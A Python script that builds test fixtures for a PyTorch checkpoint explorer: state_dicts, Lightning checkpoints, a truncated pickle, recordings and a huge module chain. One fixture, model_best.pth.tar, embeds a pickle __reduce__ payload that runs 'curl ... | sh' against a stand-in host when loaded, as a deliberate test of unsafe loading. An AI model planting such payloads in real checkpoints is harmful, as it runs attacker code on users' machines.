#!/usr/bin/env python3
"""Make the files of the explorer's scenarios (tests/python/scenarios_test.py).

    scenarios.py [FOLDER]

They go to build/scenarios/; files that are up to date are kept, without loading
torch. model_best.pth.tar is hostile on purpose: never load it with pickle.

    resnet50.pth        a state_dict, seed 0
    finetuned.pth       the same after 20 steps on noise: layer4 trained, fc replaced
    parallel.pth        resnet50.pth as DataParallel would save it
    model_best.pth.tar  a checkpoint that would run a program when loaded
    lightning.ckpt      a checkpoint that names classes of its author
    cut.ckpt            the same, cut in its pickle
    live.scope          a forward pass of ResNet-50, layer1 kept
    raised.scope        a pass that ended in a shape error
    nan.scope           a pass in which one layer makes the first NaN
    chain100k.pth       100,001 modules
"""

import fcntl
import hashlib
import os
import sys
import types
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]


def digest():
    made = hashlib.sha256()
    for name in ("scenarios.py", "scenario_models.py"):
        made.update((HERE / name).read_bytes())
    return made.hexdigest()


# --- Checkpoints


class Runs:
    """Pickled as a call of a dangerous function."""

    def __reduce__(self):
        return os.system, ("curl -s http://203.0.113.7/x.sh | sh",)


def a_class(module, name):
    """A class that can be pickled by name, of a module that is not installed."""
    made = type(name, (), {"__module__": module})
    parts = module.split(".")
    for i in range(len(parts)):
        path = ".".join(parts[: i + 1])
        sys.modules.setdefault(path, types.ModuleType(path))
    setattr(sys.modules[module], name, made)
    return made


def finetune(torch, nn, models):
    model = models.resnet50()
    model.fc = nn.Linear(2048, 10)
    for name, parameter in model.named_parameters():
        parameter.requires_grad_(name.startswith(("layer4", "fc")))
    optimizer = torch.optim.SGD([p for p in model.parameters() if p.requires_grad], 0.01)
    for _ in range(20):
        loss = nn.functional.cross_entropy(
            model(torch.randn(4, 3, 64, 64)), torch.randint(10, (4,))
        )
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
    return model.state_dict()


def checkpoints(folder, torch, nn, models):
    state = models.resnet50().state_dict()
    torch.save(state, folder / "resnet50.pth")
    torch.save(finetune(torch, nn, models), folder / "finetuned.pth")
    torch.save({f"module.{k}": v for k, v in state.items()}, folder / "parallel.pth")
    small = models.resnet18(10)
    optimizer = torch.optim.SGD(small.parameters(), 0.1, momentum=0.9)
    held = {
        "epoch": 12,
        "arch": "resnet18",
        "state_dict": small.state_dict(),
        "optimizer": optimizer.state_dict(),
        "best_acc1": Runs(),
    }
    torch.save(held, folder / "model_best.pth.tar")
    stopping = a_class("pytorch_lightning.callbacks.early_stopping", "EarlyStopping")
    own = a_class("__main__", "CifarCNN")
    held = {
        "epoch": 3,
        "global_step": 1200,
        "pytorch-lightning_version": "1.9.0",
        "state_dict": nn.Sequential(nn.Conv2d(3, 6, 5), nn.Linear(84, 10)).state_dict(),
        "callbacks": {stopping: {"patience": 3}},
        "hyper_parameters": {"model": own, "lr": 0.01},
    }
    torch.save(held, folder / "lightning.ckpt")
    torch.save(held, folder / "old.ckpt", _use_new_zipfile_serialization=False)
    whole = (folder / "old.ckpt").read_bytes()
    (folder / "cut.ckpt").write_bytes(whole[: whole.index(b"hyper_parameters")])
    (folder / "old.ckpt").unlink()


# --- Recordings and large models


def recordings(folder, torch, nn, models):
    import torchoscope

    model = models.resnet50().eval()
    picture = torch.randn(1, 3, 224, 224)
    with torchoscope.record(model, keep="layer1") as recording, torch.no_grad():
        model(picture)
    recording.save(folder / "live.scope")

    model.fc = nn.Linear(512, 10)
    try:
        with torchoscope.record(model) as recording, torch.no_grad():
            model(picture)
    except RuntimeError:
        pass
    recording.save(folder / "raised.scope")

    model = models.resnet18().eval()
    with torch.no_grad():
        model.layer3[0].bn2.running_var.fill_(-1)
        with torchoscope.record(model) as recording:
            model(torch.randn(1, 3, 64, 64))
    recording.save(folder / "nan.scope")


def chain(folder, torch, nn, modules=100_000):
    """Two modules alternate; their tensors are views of one storage, so that the
    archive stays small."""
    net = nn.Sequential()
    weight = nn.Parameter(torch.zeros(16, 16))
    for i in range(modules):
        if i % 2:
            net.add_module(str(i), nn.ReLU())
        else:
            layer = nn.Linear(16, 16, bias=False, device="meta")
            layer.weight = nn.Parameter(weight.data.view(16, 16))
            net.add_module(str(i), layer)
    torch.save(net, folder / f"chain{modules // 1000}k.pth")


def main():
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "build" / "scenarios"
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / ".lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        stamp = folder / ".made_from"
        if not stamp.exists() or stamp.read_text() != digest():
            sys.path.insert(0, str(HERE))
            import torch
            from torch import nn

            import scenario_models as models

            torch.manual_seed(0)
            checkpoints(folder, torch, nn, models)
            recordings(folder, torch, nn, models)
            chain(folder, torch, nn)
            stamp.write_text(digest())
    print(folder)


if __name__ == "__main__":
    main()
